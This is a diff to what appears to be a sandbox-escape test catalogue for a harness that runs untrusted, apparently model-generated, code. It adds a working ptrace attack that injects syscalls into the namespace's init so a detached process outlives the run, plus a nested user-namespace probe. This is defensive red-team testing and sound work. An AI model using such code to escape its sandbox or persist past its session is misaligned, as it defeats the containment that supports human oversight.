@@ -156,6 +156,47 @@ for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit
         except Exception as exc:
             print(pid, repr(exc)[:80])
 """,
+    # the namespace's init (pid 1, the code's own uid) traced and made to run
+    # prctl(PR_SET_PDEATHSIG, 0) and close its copies of the harness's pipes: it no longer dies with
+    # bubblewrap, so a setsid grandchild outlives the run unless the harness ends the init itself
+    # (x86_64 registers; session 14's attacker, /tmp/s14-attack/a4_ptrace_init.py)
+    "ptrace_init": ESCAPE
+    + """
+ctypes = imp("ctypes"); libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+libc.ptrace.restype = ctypes.c_long
+R = ctypes.c_ulong * 27
+def pt(req, addr=None, data=None):
+    return libc.ptrace(req, 1, addr, data)
+log = [pt(0x4206), pt(0x4207), os.waitpid(1, 0x40000000)]
+orig = R(); pt(12, None, ctypes.addressof(orig))
+rip = orig[16]
+if libc.ptrace(1, 1, ctypes.c_void_p(rip - 2), None) & 0xffff == 0x050f:
+    def inject(nr, a=0, b=0):
+        regs = R(*orig)
+        regs[10] = nr; regs[15] = ctypes.c_ulong(-1).value; regs[14] = a; regs[13] = b
+        regs[16] = rip - 2
+        pt(13, None, ctypes.addressof(regs)); pt(9); os.waitpid(1, 0x40000000)
+        out = R(); pt(12, None, ctypes.addressof(out))
+        return ctypes.c_long(out[10]).value
+    log.append(inject(157, 1, 0))
+    log.append([inject(3, fd) for fd in (0, 1, 2)])
+    pt(13, None, ctypes.addressof(orig))
+log.append(pt(17))
+if os.fork() == 0:
+    os.setsid()
+    fd = os.open("/dev/null", os.O_RDWR)
+    for t in (0, 1, 2): os.dup2(fd, t)
+    os.execv("/usr/bin/sleep", ["sleep", "$MARKER"])
+print(log)
+""",
+    # a user namespace of its own, where the code would hold every capability over what its uid
+    # maps to outside (a root harness's uid 0)
+    "nested_userns": ESCAPE
+    + """
+ctypes = imp("ctypes"); libc = ctypes.CDLL(None, use_errno=True)
+print("unshare", libc.unshare(0x10000000), ctypes.get_errno())
+""",
     # -- network ---------------------------------------------------------------------------------
     "socket_to_model_server": ESCAPE
     + """
@@ -184,7 +225,7 @@ for host in ["127.0.0.1", "8.8.8.8"]:
 
 OS_ONLY = {k for k, v in CATALOGUE.items() if v.startswith(ESCAPE)}
 """Attacks that first switch the Python filters off (so only the OS layers can stop them)."""
-FALLBACK_SKIP = {"signal_parent"}
+FALLBACK_SKIP = {"signal_parent", "ptrace_init"}
 """Not run in the no-bubblewrap mode on a shared machine: as uid 65534 it may kill other users'
 sandboxes of the same uid (documented in docs/security.md)."""
 
